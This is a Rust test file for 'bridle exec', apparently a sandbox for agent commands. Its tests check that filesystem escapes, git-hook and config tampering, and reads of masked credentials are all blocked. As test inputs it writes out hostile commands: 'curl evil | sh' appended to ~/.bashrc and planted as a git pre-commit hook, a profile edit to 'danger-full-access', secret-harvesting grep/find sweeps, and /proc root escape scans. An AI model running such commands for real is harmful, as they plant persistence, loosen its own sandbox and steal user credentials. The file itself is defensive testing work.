@@ -1,0 +1,971 @@
+//! `bridle exec` and the filesystem: G-FS-WRITE, G-FS-PROTECT, G-FS-MASK.
+//!
+//! Every negative case is judged from outside the sandbox: the victim file's content and
+//! metadata (mode, owner, times, inode, link count) and its directory's listing are compared
+//! before and after, not only the exit status of the attempt inside.
+
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::Duration;
+
+use pretty_assertions::assert_eq;
+
+use super::support::{ExecEnv, Run, path_str, token, wait_until};
+
+/// Everything about a path that a write, rename, link or metadata change would alter.
+#[derive(Debug, Clone, PartialEq, Eq)]
+struct Snapshot {
+    content: Option<Vec<u8>>,
+    mode: u32,
+    uid: u32,
+    gid: u32,
+    ino: u64,
+    nlink: u64,
+    size: u64,
+    mtime: (i64, i64),
+    ctime: (i64, i64),
+}
+
+fn snapshot(path: &Path) -> Option<Snapshot> {
+    let meta = std::fs::symlink_metadata(path).ok()?;
+    Some(Snapshot {
+        content: meta
+            .is_file()
+            .then(|| std::fs::read(path).expect("read victim")),
+        mode: meta.mode(),
+        uid: meta.uid(),
+        gid: meta.gid(),
+        ino: meta.ino(),
+        nlink: meta.nlink(),
+        size: meta.size(),
+        mtime: (meta.mtime(), meta.mtime_nsec()),
+        ctime: (meta.ctime(), meta.ctime_nsec()),
+    })
+}
+
+/// The names in `dir`, sorted.
+fn listing(dir: &Path) -> Vec<String> {
+    let mut names: Vec<String> = std::fs::read_dir(dir)
+        .expect("read dir")
+        .map(|e| {
+            e.expect("dir entry")
+                .file_name()
+                .to_string_lossy()
+                .into_owned()
+        })
+        .collect();
+    names.sort();
+    names
+}
+
+/// A victim file outside the workspace and the state it (and its directory) must keep.
+struct Victim {
+    path: PathBuf,
+    dir: PathBuf,
+    before: Option<Snapshot>,
+    dir_before: Option<Snapshot>,
+    listing: Vec<String>,
+}
+
+impl Victim {
+    /// Creates `outside/<name>`; create anything else the test needs outside first.
+    fn new(env: &ExecEnv, name: &str) -> Victim {
+        let path = env.outside_file(name, "original content\n");
+        Victim {
+            dir: env.outside.clone(),
+            before: snapshot(&path),
+            dir_before: snapshot(&env.outside),
+            listing: listing(&env.outside),
+            path,
+        }
+    }
+
+    fn p(&self) -> &str {
+        path_str(&self.path)
+    }
+
+    #[track_caller]
+    fn assert_untouched(&self, r: &Run) {
+        assert_eq!(
+            snapshot(&self.path),
+            self.before,
+            "the file outside the workspace changed\n--- stdout\n{}\n--- stderr\n{}",
+            r.stdout,
+            r.stderr
+        );
+        assert_eq!(
+            listing(&self.dir),
+            self.listing,
+            "the directory outside the workspace changed\n--- stdout\n{}\n--- stderr\n{}",
+            r.stdout,
+            r.stderr
+        );
+        assert_eq!(
+            snapshot(&self.dir),
+            self.dir_before,
+            "the directory's metadata changed\n--- stdout\n{}\n--- stderr\n{}",
+            r.stdout,
+            r.stderr
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// G-FS-WRITE
+
+#[test]
+fn workspace_is_writable() {
+    let e = ExecEnv::new();
+    e.write("existing.txt", "one\n");
+    let r = e.sh(
+        "echo hello > new.txt; echo create=$?
+         echo two >> existing.txt; echo append=$?
+         mkdir -p sub/deeper; echo mkdir=$?
+         mv new.txt sub/moved.txt; echo rename=$?
+         ln sub/moved.txt hard.txt; echo hardlink=$?
+         ln -s sub/moved.txt soft.txt; echo symlink=$?
+         chmod 600 existing.txt; echo chmod=$?
+         touch -d 2001-02-03 existing.txt; echo utimes=$?
+         /usr/bin/python3 -c 'import os; os.setxattr(\"existing.txt\", \"user.bridle\", b\"1\")'; echo xattr=$?
+         truncate -s 2 hard.txt; echo truncate=$?
+         mkfifo fifo; echo mkfifo=$?
+         echo gone > gone.txt && rm gone.txt; echo rm=$?",
+    );
+    r.assert_ok();
+    for step in [
+        "create", "append", "mkdir", "rename", "hardlink", "symlink", "chmod", "utimes", "xattr",
+        "truncate", "mkfifo", "rm",
+    ] {
+        r.assert_succeeded(step);
+    }
+    let ws = &e.workspace;
+    assert_eq!(
+        std::fs::read_to_string(ws.join("existing.txt")).unwrap(),
+        "one\ntwo\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.join("sub/moved.txt")).unwrap(),
+        "he"
+    );
+    let meta = std::fs::metadata(ws.join("existing.txt")).unwrap();
+    assert_eq!(meta.permissions().mode() & 0o777, 0o600);
+    assert_eq!(meta.nlink(), 1);
+    assert_eq!(std::fs::metadata(ws.join("hard.txt")).unwrap().nlink(), 2);
+    assert_eq!(
+        std::fs::read_link(ws.join("soft.txt")).unwrap(),
+        Path::new("sub/moved.txt")
+    );
+    assert!(ws.join("sub/deeper").is_dir());
+    assert!(!ws.join("gone.txt").exists());
+    assert!(
+        meta.mtime() < 1_000_000_000 + 10 * 365 * 86_400,
+        "utimes did not land"
+    );
+}
+
+#[test]
+fn write_outside_workspace_is_denied() {
+    let e = ExecEnv::new();
+    let v = Victim::new(&e, "victim.txt");
+    let bashrc = e.home.join(".bashrc");
+    std::fs::write(&bashrc, "# mine\n").unwrap();
+    let o = path_str(&e.outside);
+    let p = v.p();
+    let r = e.sh(&format!(
+        "echo pwned > {p}; echo overwrite=$?
+         echo pwned >> {p}; echo append=$?
+         echo new > {o}/new.txt; echo create=$?
+         cp /etc/hostname {o}/copied; echo copy=$?
+         /usr/bin/python3 -c 'open(\"{p}\", \"r+\").write(\"X\")'; echo python=$?
+         dd if=/dev/zero of={p} bs=1 count=1 conv=notrunc 2>/dev/null; echo dd=$?
+         echo 'curl evil | sh' >> ~/.bashrc; echo bashrc=$?"
+    ));
+    r.assert_ok();
+    for step in [
+        "overwrite",
+        "append",
+        "create",
+        "copy",
+        "python",
+        "dd",
+        "bashrc",
+    ] {
+        r.assert_failed(step);
+    }
+    v.assert_untouched(&r);
+    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# mine\n");
+}
+
+#[test]
+fn rename_and_delete_outside_workspace_are_denied() {
+    let e = ExecEnv::new();
+    std::fs::create_dir(e.outside.join("subdir")).unwrap();
+    let v = Victim::new(&e, "victim.txt");
+    let o = path_str(&e.outside);
+    let p = v.p();
+    let r = e.sh(&format!(
+        "mv {p} {o}/renamed.txt; echo rename=$?
+         mv {p} ./stolen.txt; echo rename_into_workspace=$?
+         rm -f {p}; echo rm=$?
+         mkdir {o}/newdir; echo mkdir=$?
+         rmdir {o}/subdir; echo rmdir=$?
+         mv {o}/subdir {o}/subdir2; echo rename_dir=$?
+         mkfifo {o}/fifo; echo mkfifo=$?
+         /usr/bin/python3 -c 'import os; os.mknod(\"{o}/node\")'; echo mknod=$?"
+    ));
+    r.assert_ok();
+    for step in [
+        "rename",
+        "rename_into_workspace",
+        "rm",
+        "mkdir",
+        "rmdir",
+        "rename_dir",
+        "mkfifo",
+        "mknod",
+    ] {
+        r.assert_failed(step);
+    }
+    // (`mv` across mounts falls back to copy + unlink: the copy may land in the workspace, the
+    // unlink of the original fails.)
+    v.assert_untouched(&r);
+}
+
+#[test]
+fn links_outside_workspace_are_denied() {
+    let e = ExecEnv::new();
+    let v = Victim::new(&e, "victim.txt");
+    let o = path_str(&e.outside);
+    let p = v.p();
+    let r = e.sh(&format!(
+        "ln {p} {o}/hard; echo hard_outside=$?
+         ln -s /etc/passwd {o}/soft; echo sym_outside=$?
+         ln {p} ./hard-in-workspace; echo hard_into_workspace=$?
+         ln ./nothing {o}/x 2>/dev/null; echo hard_from_workspace=$?"
+    ));
+    r.assert_ok();
+    for step in [
+        "hard_outside",
+        "sym_outside",
+        "hard_into_workspace",
+        "hard_from_workspace",
+    ] {
+        r.assert_failed(step);
+    }
+    // nlink is part of the snapshot: no hard link anywhere.
+    v.assert_untouched(&r);
+}
+
+#[test]
+fn truncate_outside_workspace_is_denied() {
+    let e = ExecEnv::new();
+    let v = Victim::new(&e, "victim.txt");
+    let p = v.p();
+    let r = e.sh(&format!(
+        "truncate -s 0 {p}; echo truncate=$?
+         truncate -s 1M {p}; echo extend=$?
+         /usr/bin/python3 -c 'import os; os.truncate(\"{p}\", 1)'; echo python=$?
+         true > {p}; echo redirect=$?"
+    ));
+    r.assert_ok();
+    for step in ["truncate", "extend", "python", "redirect"] {
+        r.assert_failed(step);
+    }
+    v.assert_untouched(&r);
+}
+
+/// Landlock does not govern these; the read-only mount view does.
+#[test]
+fn metadata_changes_outside_workspace_are_denied() {
+    let e = ExecEnv::new();
+    let v = Victim::new(&e, "victim.txt");
+    let p = v.p();
+    let o = path_str(&e.outside);
+    let uid = nix::unistd::geteuid();
+    let gid = nix::unistd::getegid();
+    let r = e.sh(&format!(
+        "chmod 777 {p}; echo chmod=$?
+         chmod 777 {o}; echo chmod_dir=$?
+         chown {uid}:{gid} {p}; echo chown_same=$?
+         chown 1:1 {p}; echo chown_other=$?
+         touch -d 2000-01-01 {p}; echo utimes=$?
+         touch {p}; echo touch_now=$?
+         /usr/bin/python3 -c 'import os; os.utime(\"{p}\", (0, 0))'; echo python_utime=$?
+         /usr/bin/python3 -c 'import os; os.setxattr(\"{p}\", \"user.bridle\", b\"1\")'; echo setxattr=$?
+         /usr/bin/python3 -c 'import os; os.chmod(\"{p}\", 0o4755)'; echo setuid_bit=$?"
+    ));
+    r.assert_ok();
+    for step in [
+        "chmod",
+        "chmod_dir",
+        "chown_same",
+        "chown_other",
+        "utimes",
+        "touch_now",
+        "python_utime",
+        "setxattr",
+        "setuid_bit",
+    ] {
+        r.assert_failed(step);
+    }
+    // mode, owner, mtime and ctime (which any metadata change, xattrs included, bumps), of the
+    // file and of its directory.
+    v.assert_untouched(&r);
+}
+
+#[test]
+fn symlink_in_workspace_pointing_outside_does_not_escape() {
+    let e = ExecEnv::new();
+    let v = Victim::new(&e, "victim.txt");
+    // Planted from outside before the run, as a cloned repository could ship them.
+    std::os::unix::fs::symlink(&v.path, e.workspace.join("file-link")).unwrap();
+    std::os::unix::fs::symlink(&e.outside, e.workspace.join("dir-link")).unwrap();
+    let p = v.p();
+    let r = e.sh(&format!(
+        "echo pwned > file-link; echo via_file_link=$?
+         echo new > dir-link/new.txt; echo via_dir_link=$?
+         ln -s {p} own-link; echo own_link_created=$?
+         echo pwned >> own-link; echo via_own_link=$?
+         chmod 777 file-link; echo chmod_via_link=$?
+         mv dir-link/victim.txt moved.txt; echo rename_via_link=$?
+         ln -sfn / root-link && echo x > root-link{p}; echo via_root_link=$?"
+    ));
+    r.assert_ok();
+    r.assert_succeeded("own_link_created");
+    for step in [
+        "via_file_link",
+        "via_dir_link",
+        "via_own_link",
+        "chmod_via_link",
+        "rename_via_link",
+        "via_root_link",
+    ] {
+        r.assert_failed(step);
+    }
+    v.assert_untouched(&r);
+}
+
+#[test]
+fn dotdot_paths_do_not_escape() {
+    let e = ExecEnv::new();
+    let v = Victim::new(&e, "victim.txt");
+    e.write("sub/keep", "");
+    let r = e.sh("echo pwned > ../../outside/victim.txt; echo dotdot=$?
+         echo pwned > sub/../../../outside/victim.txt; echo nested_dotdot=$?
+         cd sub/../.. && echo pwned > ../outside/new.txt; echo cd_up=$?
+         echo x > /proc/self/cwd/../../outside/victim.txt; echo proc_cwd=$?");
+    r.assert_ok();
+    for step in ["dotdot", "nested_dotdot", "cd_up", "proc_cwd"] {
+        r.assert_failed(step);
+    }
+    v.assert_untouched(&r);
+}
+
+#[test]
+fn proc_root_paths_do_not_escape() {
+    let e = ExecEnv::new();
+    let v = Victim::new(&e, "victim.txt");
+    let p = v.p();
+    let o = path_str(&e.outside);
+    let r = e.sh(&format!(
+        "echo pwned > /proc/self/root{p}; echo self_root=$?
+         echo pwned > /proc/1/root{p}; echo init_root=$?
+         echo pwned > /proc/$$/root{o}/new.txt; echo shell_root=$?
+         ls /proc/1/root/ > /dev/null 2>&1; echo list_init_root=$?
+         for pid in $(ls /proc | grep -E '^[0-9]+$'); do echo x >> /proc/$pid/root{p} 2>/dev/null && echo escaped-through-$pid; done; echo scan=done"
+    ));
+    r.assert_ok();
+    for step in ["self_root", "init_root", "shell_root"] {
+        r.assert_failed(step);
+    }
+    assert!(!r.stdout.contains("escaped-through"), "{}", r.stdout);
+    v.assert_untouched(&r);
+}
+
+#[test]
+fn host_device_nodes_are_absent_inside() {
+    let e = ExecEnv::new();
+    // Block devices (disks, loop devices) and raw character devices the host has.
+    let mut host_nodes: Vec<String> = Vec::new();
+    for entry in std::fs::read_dir("/dev").unwrap().flatten() {
+        use std::os::unix::fs::FileTypeExt;
+        let Ok(ft) = entry.file_type() else { continue };
+        let name = entry.file_name().to_string_lossy().into_owned();
+        if ft.is_block_device() || ["mem", "kmem", "port", "kmsg", "sda", "vda"].contains(&&*name) {
+            host_nodes.push(name);
+        }
+    }
+    let list = host_nodes.join(" ");
+    let r = e.sh(&format!(
+        "for n in {list} sda vda nvme0n1 mem kmsg; do test -e /dev/$n && echo present-$n; done
+         echo x > /dev/sda; echo write_sda=$?
+         /usr/bin/python3 -c 'import os; os.mknod(\"/dev/sdz\", 0o600 | 0o060000, os.makedev(8, 0))'; echo mknod_dev=$?
+         /usr/bin/python3 -c 'import os; os.mknod(\"disk\", 0o600 | 0o060000, os.makedev(8, 0))'; echo mknod_workspace=$?
+         find /dev -type b | sed 's/^/block-/'
+         echo hi > /dev/null; echo devnull=$?"
+    ));
+    r.assert_ok();
+    assert!(!r.stdout.contains("present-"), "{}", r.stdout);
+    assert!(!r.stdout.contains("block-"), "{}", r.stdout);
+    r.assert_failed("write_sda");
+    r.assert_failed("mknod_dev");
+    r.assert_failed("mknod_workspace");
+    r.assert_succeeded("devnull");
+    assert!(!e.workspace.join("disk").exists());
+}
+
+#[test]
+fn private_tmp_does_not_reach_host_tmp() {
+    let e = ExecEnv::new();
+    let name = token("tmp");
+    let host_file = Path::new("/tmp").join(&name);
+    let r = e.sh(&format!(
+        "echo inside > /tmp/{name}; echo write_tmp=$?
+         cat /tmp/{name}; echo tmpdir=$TMPDIR
+         echo inside > \"$TMPDIR/{name}.2\"; echo write_tmpdir=$?
+         ls -A /tmp | grep -c . | sed 's/^/entries=/'"
+    ));
+    r.assert_ok();
+    r.assert_succeeded("write_tmp");
+    r.assert_succeeded("write_tmpdir");
+    assert!(r.stdout.contains("inside"), "{}", r.stdout);
+    assert!(
+        !host_file.exists(),
+        "a file written to /tmp inside appeared in the host /tmp"
+    );
+    // The private temp dir is gone after the run.
+    let tmpdir = r.value("tmpdir");
+    assert!(
+        !Path::new(tmpdir).exists(),
+        "the session temp dir {tmpdir} was left behind"
+    );
+}
+
+#[test]
+fn host_tmp_files_are_not_visible_inside() {
+    let e = ExecEnv::new();
+    let probe = tempfile::Builder::new()
+        .prefix("bridle-host-tmp-")
+        .tempfile_in("/tmp")
+        .unwrap();
+    std::fs::write(probe.path(), "host secret").unwrap();
+    let p = path_str(probe.path());
+    let r = e.sh(&format!(
+        "cat {p}; echo read=$?; echo replaced > {p}; echo write=$?; cat {p}"
+    ));
+    r.assert_ok();
+    r.assert_failed("read");
+    // The write lands in the private /tmp, never in the host's.
+    assert!(!r.stdout.contains("host secret"));
+    assert_eq!(
+        std::fs::read_to_string(probe.path()).unwrap(),
+        "host secret"
+    );
+}
+
+#[test]
+fn dev_shm_is_private_and_usable() {
+    let e = ExecEnv::new();
+    let name = token("shm");
+    let r = e.sh(&format!(
+        "echo inside > /dev/shm/{name}; echo write=$?
+         /usr/bin/python3 -c '
+from multiprocessing import shared_memory
+m = shared_memory.SharedMemory(name=\"{name}-py\", create=True, size=64)
+m.buf[:5] = b\"hello\"
+o = shared_memory.SharedMemory(name=\"{name}-py\")
+print(\"shm=\" + bytes(o.buf[:5]).decode())
+o.close()
+' ; echo python=$?
+         ls /dev/shm"
+    ));
+    r.assert_ok();
+    r.assert_succeeded("write");
+    r.assert_succeeded("python");
+    assert_eq!(r.value("shm"), "hello");
+    for host in [name.clone(), format!("{name}-py")] {
+        assert!(
+            !Path::new("/dev/shm").join(&host).exists(),
+            "/dev/shm/{host} appeared on the host"
+        );
+    }
+}
+
+#[test]
+fn workspace_below_private_tmp_is_writable_and_host_tmp_stays_hidden() {
+    // The harness's usual layout: everything in $TMPDIR, typically below /tmp.
+    let e = ExecEnv::in_tmpdir();
+    let v = Victim::new(&e, "victim.txt");
+    let p = v.p();
+    let r = e.sh(&format!(
+        "echo ok > inside.txt; echo write_ws=$?
+         echo pwned > {p}; echo write_outside=$?
+         cat {p}; echo read_outside=$?"
+    ));
+    r.assert_ok();
+    r.assert_succeeded("write_ws");
+    r.assert_failed("write_outside");
+    assert_eq!(
+        std::fs::read_to_string(e.workspace.join("inside.txt")).unwrap(),
+        "ok\n"
+    );
+    v.assert_untouched(&r);
+}
+
+#[test]
+fn read_only_mode_denies_workspace_writes() {
+    let e = ExecEnv::new();
+    let existing = e.write("existing.txt", "keep\n");
+    let before = snapshot(&existing);
+    let r = e.sh_with(
+        &[],
+        &["--mode", "read-only"],
+        "echo x > new.txt; echo create=$?
+         echo x >> existing.txt; echo append=$?
+         chmod 777 existing.txt; echo chmod=$?
+         cat existing.txt; echo read=$?
+         echo scratch > \"$TMPDIR/x\"; echo tmpdir=$?",
+    );
+    r.assert_ok();
+    r.assert_failed("create");
+    r.assert_failed("append");
+    r.assert_failed("chmod");
+    r.assert_succeeded("read");
+    r.assert_succeeded("tmpdir");
+    assert!(!e.workspace.join("new.txt").exists());
+    assert_eq!(snapshot(&existing), before);
+}
+
+#[test]
+fn allow_write_adds_a_writable_root() {
+    let e = ExecEnv::new();
+    let extra = e.outside.join("extra");
+    std::fs::create_dir(&extra).unwrap();
+    let v = Victim::new(&e, "victim.txt");
+    let x = path_str(&extra);
+    let r = e.sh_with(
+        &[],
+        &["--allow-write", x],
+        &format!(
+            "echo granted > {x}/granted.txt; echo extra=$?
+             echo pwned > {}; echo sibling=$?",
+            v.p()
+        ),
+    );
+    r.assert_ok();
+    r.assert_succeeded("extra");
+    r.assert_failed("sibling");
+    assert_eq!(
+        std::fs::read_to_string(extra.join("granted.txt")).unwrap(),
+        "granted\n"
+    );
+    // `extra` was added to the listing by the positive case; the victim itself is untouched.
+    assert_eq!(snapshot(&v.path), v.before);
+}
+
+// ---------------------------------------------------------------------------------------------
+// G-FS-PROTECT
+
+fn git(dir: &Path, args: &[&str]) -> String {
+    let out = Command::new("git")
+        .args(args)
+        .current_dir(dir)
+        .env_clear()
+        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+        .env("HOME", dir)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .output()
+        .expect("run git");
+    assert!(
+        out.status.success(),
+        "git {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+fn git_repo() -> ExecEnv {
+    let e = ExecEnv::new();
+    git(&e.workspace, &["init", "-q", "-b", "main", "."]);
+    std::fs::write(
+        e.workspace.join(".git/hooks/pre-commit.sample"),
+        "#!/bin/sh\n",
+    )
+    .unwrap();
+    e
+}
+
+#[test]
+fn git_hooks_and_config_are_read_only() {
+    let e = git_repo();
+    let hooks = e.workspace.join(".git/hooks");
+    let config = e.workspace.join(".git/config");
+    let sample = hooks.join("pre-commit.sample");
+    let before = (snapshot(&config), snapshot(&sample), listing(&hooks));
+    let r = e.sh(
+        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; echo new_hook=$?
+         echo evil >> .git/hooks/pre-commit.sample; echo edit_hook=$?
+         chmod +x .git/hooks/pre-commit.sample; echo chmod_hook=$?
+         rm .git/hooks/pre-commit.sample; echo rm_hook=$?
+         mv .git/hooks/pre-commit.sample .git/hooks/pre-commit; echo rename_hook=$?
+         printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config; echo edit_config=$?
+         git config core.hooksPath .evil; echo git_config=$?
+         rm -f .git/config; echo rm_config=$?
+         mv .git/config .git/config.old; echo rename_config=$?
+         touch -d 2000-01-01 .git/config; echo utimes_config=$?",
+    );
+    r.assert_ok();
+    for step in [
+        "new_hook",
+        "edit_hook",
+        "chmod_hook",
+        "rm_hook",
+        "rename_hook",
+        "edit_config",
+        "git_config",
+        "rm_config",
+        "rename_config",
+        "utimes_config",
+    ] {
+        r.assert_failed(step);
+    }
+    assert_eq!(
+        (snapshot(&config), snapshot(&sample), listing(&hooks)),
+        before,
+        "{}",
+        r.stderr
+    );
+}
+
+#[test]
+fn git_dir_cannot_be_swapped_out() {
+    let e = git_repo();
+    let r = e.sh("mv .git .git2; echo rename_git=$?
+         mv .git/hooks .git/hooks.old; echo rename_hooks=$?
+         rm -rf .git/hooks; echo rm_hooks=$?
+         mkdir -p fake/hooks && printf '#!/bin/sh\\nexit 0\\n' > fake/hooks/pre-commit
+         rm -rf .git/hooks 2>/dev/null; mv fake/hooks .git/hooks; echo replace_hooks=$?");
+    r.assert_ok();
+    r.assert_failed("rename_git");
+    r.assert_failed("rename_hooks");
+    r.assert_failed("rm_hooks");
+    r.assert_failed("replace_hooks");
+    assert!(e.workspace.join(".git/config").is_file());
+    assert!(e.workspace.join(".git/hooks/pre-commit.sample").is_file());
+    assert!(!e.workspace.join(".git/hooks/pre-commit").exists());
+    assert!(!e.workspace.join(".git2").exists());
+}
+
+#[test]
+fn ordinary_git_use_keeps_working() {
+    let e = git_repo();
+    let r = e.sh(
+        "export GIT_CONFIG_NOSYSTEM=1
+         echo hello > a.txt && git add a.txt; echo add=$?
+         git -c user.name=Agent -c user.email=agent@example.com commit -q -m 'first'; echo commit=$?
+         git branch feature; echo branch=$?
+         git checkout -q feature && echo more >> a.txt &&
+           git -c user.name=Agent -c user.email=agent@example.com commit -q -am second; echo commit2=$?
+         git checkout -q main; echo checkout=$?
+         git log --oneline --all | wc -l | sed 's/^ */commits=/'
+         git status --porcelain | wc -l | sed 's/^ */dirty=/'",
+    );
+    r.assert_ok();
+    for step in ["add", "commit", "branch", "commit2", "checkout"] {
+        r.assert_succeeded(step);
+    }
+    assert_eq!(r.value("commits"), "2");
+    // Judged from outside too: the host's git sees the history and the branch.
+    let branches = git(&e.workspace, &["branch", "--list"]);
+    assert!(
+        branches.contains("feature") && branches.contains("main"),
+        "{branches}"
+    );
+    let log = git(&e.workspace, &["log", "--format=%s", "feature"]);
+    assert_eq!(log, "second\nfirst\n");
+}
+
+#[test]
+fn git_init_at_workspace_root_fails_and_leaves_no_git_dir() {
+    let e = ExecEnv::new();
+    e.write("src/main.c", "int main;\n");
+    let r = e.sh("git init -q .; echo init=$?
+         mkdir -p .git/hooks 2>/dev/null
+         echo evil > .git/hooks/post-checkout; echo hook=$?
+         mkdir sub && cd sub && git init -q . && echo nested_init=0");
+    r.assert_ok();
+    r.assert_failed("init");
+    r.assert_failed("hook");
+    // A repository below the root is ordinary work.
+    r.assert_succeeded("nested_init");
+    assert!(e.workspace.join("sub/.git/HEAD").is_file());
+    // No placeholder is left behind.
+    assert_eq!(listing(&e.workspace), ["src", "sub"]);
+}
+
+#[test]
+fn bridle_dir_is_read_only() {
+    let e = ExecEnv::new();
+    let layer = e.write(".bridle/notes.txt", "mine\n");
+    let before = snapshot(&layer);
+    let r = e.sh(
+        "echo 'mode: danger-full-access' > .bridle/profile.yaml; echo create=$?
+         echo x >> .bridle/notes.txt; echo append=$?
+         mv .bridle .bridle.old; echo rename=$?
+         rm -rf .bridle; echo rm=$?",
+    );
+    r.assert_ok();
+    for step in ["create", "append", "rename", "rm"] {
+        r.assert_failed(step);
+    }
+    assert_eq!(snapshot(&layer), before);
+    assert_eq!(listing(&e.workspace.join(".bridle")), ["notes.txt"]);
+}
+
+#[test]
+fn missing_bridle_dir_cannot_be_created() {
+    let e = ExecEnv::new();
+    let r = e.sh("mkdir -p .bridle; echo mkdir=$?
+         echo 'mode: danger-full-access' > .bridle/profile.yaml; echo create=$?");
+    r.assert_ok();
+    r.assert_failed("create");
+    assert!(!e.workspace.join(".bridle").exists());
+}
+
+/// A placeholder is shared by concurrent runs in one workspace: the run that created it must not
+/// remove it while another run still relies on it (removing a mount point on the host detaches
+/// it in the other run's mount namespace, and `.git/hooks` would become writable there).
+#[test]
+fn protection_holds_when_a_concurrent_run_ends_first() {
+    let e = ExecEnv::new();
+    let ws = e.workspace.clone();
+    let first = e
+        .exec_cmd(
+            &[],
+            &[],
+            &["sh", "-c", "while [ ! -e first-go ]; do sleep 0.02; done"],
+        )
+        .spawn()
+        .unwrap();
+    let mut first = Guard(first);
+    assert!(
+        wait_until(Duration::from_secs(10), || ws.join(".git").is_dir()),
+        "the first run never protected .git"
+    );
+    let second = e
+        .exec_cmd(
+            &[],
+            &[],
+            &[
+                "sh",
+                "-c",
+                "echo > second-ready; while [ ! -e second-go ]; do sleep 0.02; done
+                 mkdir -p .git/hooks; echo mkdir=$?
+                 echo evil > .git/hooks/pre-commit; echo hook=$?
+                 git init -q .; echo init=$?",
+            ],
+        )
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    assert!(
+        wait_until(Duration::from_secs(10), || ws.join("second-ready").exists()),
+        "the second run never started"
+    );
+    std::fs::write(ws.join("first-go"), "").unwrap();
+    let status = first.0.wait().unwrap();
+    assert_eq!(status.code(), Some(0));
+    std::fs::write(ws.join("second-go"), "").unwrap();
+    let out = second.wait_with_output().unwrap();
+    let r = Run {
+        code: out.status.code(),
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+        elapsed: Duration::ZERO,
+    };
+    r.assert_ok();
+    r.assert_failed("mkdir");
+    r.assert_failed("hook");
+    r.assert_failed("init");
+    assert!(
+        !ws.join(".git/hooks/pre-commit").exists(),
+        "a hook was planted on the host"
+    );
+    // The last run out removed the shared placeholders.
+    assert_eq!(
+        listing(&ws),
+        ["first-go", "second-go", "second-ready"],
+        "{}",
+        r.stderr
+    );
+}
+
+#[test]
+fn placeholders_left_by_a_killed_run_are_cleaned_up() {
+    let e = ExecEnv::new();
+    let ws = &e.workspace;
+    // What a bridle killed with SIGKILL leaves behind.
+    std::fs::create_dir(ws.join(".git")).unwrap();
+    std::fs::write(ws.join(".git/.bridle-placeholder"), "").unwrap();
+    let r = e.sh("git init -q .; echo init=$?; echo x > .git/config; echo config=$?");
+    r.assert_ok();
+    r.assert_failed("init");
+    r.assert_failed("config");
+    assert_eq!(listing(ws), Vec::<String>::new());
+}
+
+/// Kills the child when dropped (a failed assertion must not leave a bridle waiting forever).
+struct Guard(std::process::Child);
+
+impl Drop for Guard {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// G-FS-MASK
+
+const SSH_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- s3cr3t-ssh-key-material";
+const NETRC: &str = "machine example.com login me password s3cr3t-netrc-password";
+const AWS: &str = "[default]\naws_secret_access_key = s3cr3t-aws-key";
+
+fn plant_secrets(home: &Path) {
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_rsa"), SSH_KEY).unwrap();
+    std::fs::write(home.join(".netrc"), NETRC).unwrap();
+    std::fs::create_dir_all(home.join(".aws")).unwrap();
+    std::fs::write(home.join(".aws/credentials"), AWS).unwrap();
+    std::fs::write(home.join("notes.txt"), "not a secret").unwrap();
+}
+
+#[track_caller]
+fn assert_no_secret(r: &Run) {
+    for secret in [
+        "s3cr3t-ssh-key-material",
+        "s3cr3t-netrc-password",
+        "s3cr3t-aws-key",
+    ] {
+        assert!(
+            !r.stdout.contains(secret) && !r.stderr.contains(secret),
+            "secret `{secret}` leaked\n--- stdout\n{}\n--- stderr\n{}",
+            r.stdout,
+            r.stderr
+        );
+    }
+}
+
+#[test]
+fn masked_secrets_are_unreadable_with_workstation_profile() {
+    let e = ExecEnv::new();
+    plant_secrets(&e.home);
+    let netrc = e.home.join(".netrc");
+    let before = snapshot(&netrc);
+    let r = e.sh_with(
+        &["--profile", "workstation"],
+        &[],
+        "cat ~/.ssh/id_rsa; echo ssh=$?
+         cat ~/.netrc; echo netrc=$?
+         cat ~/.aws/credentials; echo aws=$?
+         ls -A ~/.ssh | wc -l | sed 's/^ */ssh_entries=/'
+         grep -r s3cr3t ~ 2>/dev/null; echo grep=$?
+         find ~ -type f -exec cat {} + 2>/dev/null; echo
+         cp ~/.ssh/id_rsa copied-key 2>/dev/null; cat copied-key 2>/dev/null; echo
+         /usr/bin/python3 -c 'print(open(\"'$HOME'/.netrc\").read())'; echo python=$?
+         chmod 644 ~/.netrc; echo chmod_mask=$?
+         cat ~/notes.txt; echo; echo notes=$?",
+    );
+    r.assert_ok();
+    for step in ["ssh", "netrc", "aws", "python", "chmod_mask"] {
+        r.assert_failed(step);
+    }
+    assert_eq!(r.value("ssh_entries"), "0");
+    r.assert_succeeded("notes");
+    assert!(r.stdout.contains("not a secret"));
+    assert_no_secret(&r);
+    assert_eq!(snapshot(&netrc), before);
+}
+
+#[test]
+fn masked_home_below_private_tmp_runs_and_leaks_nothing() {
+    // With $HOME below /tmp (CI's layout), the private /tmp already hides it; the masks must not
+    // turn that into a refusal.
+    let e = ExecEnv::in_tmpdir();
+    plant_secrets(&e.home);
+    let r = e.sh_with(
+        &["--profile", "workstation"],
+        &[],
+        "cat ~/.ssh/id_rsa; echo ssh=$?; cat ~/.netrc; echo netrc=$?; echo ran=0",
+    );
+    r.assert_ok();
+    r.assert_succeeded("ran");
+    r.assert_failed("ssh");
+    r.assert_failed("netrc");
+    assert_no_secret(&r);
+}
+
+#[test]
+fn default_profile_does_not_mask_but_still_protects_home() {
+    // Positive control for the masking test: without masks the planted key is readable (so the
+    // masking test above fails for the right reason), and still not writable.
+    let e = ExecEnv::new();
+    plant_secrets(&e.home);
